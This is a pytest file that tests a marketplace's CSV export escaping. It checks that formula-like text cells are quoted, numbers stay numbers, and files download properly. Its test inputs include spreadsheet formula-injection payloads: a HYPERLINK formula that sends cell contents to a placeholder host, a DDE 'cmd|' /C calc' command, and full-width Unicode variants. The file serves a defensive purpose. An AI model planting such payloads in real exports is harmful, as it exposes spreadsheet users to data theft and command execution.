"""Every CSV Linli writes (``marketplace.csv_export``): no cell a spreadsheet would run as a
formula, numbers left as numbers, and a download."""

import csv
import io
from decimal import Decimal

import pytest

from marketplace.csv_export import csv_cell, csv_download, csv_text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "-500.00",  # text, not a number Linli formatted: escaped like any other text
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",  # full-width equals sign (Chinese IME), NFKC "="
        "＋1",
        "－1",
        "＠SUM(A1)",
    ],
)
def test_a_text_cell_that_would_start_a_formula_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["物业服务费", "Property fee", "", "1+1", "a=b", " =1"])
def test_other_text_is_written_as_it_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", [Decimal("-500.00"), Decimal("120.00"), -3, 0, 7])
def test_a_number_linli_formats_stays_a_number(number):
    assert csv_cell(number) is number
    row = next(csv.reader(io.StringIO(csv_text([[number]]).lstrip("\ufeff"))))
    assert row == [str(number)]


def test_none_and_bool_are_text():
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True"


def test_csv_text_has_a_bom_crlf_lines_and_escaped_cells():
    text = csv_text([["=1+1", Decimal("-5.00")]], header=["name", "amount"])
    assert text == "\ufeffname,amount\r\n'=1+1,-5.00\r\n"


def test_a_csv_is_served_as_a_download():
    response = csv_download("\ufeffa\r\n", filename="收费-board.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename")
    assert "board.csv" in response["Content-Disposition"]
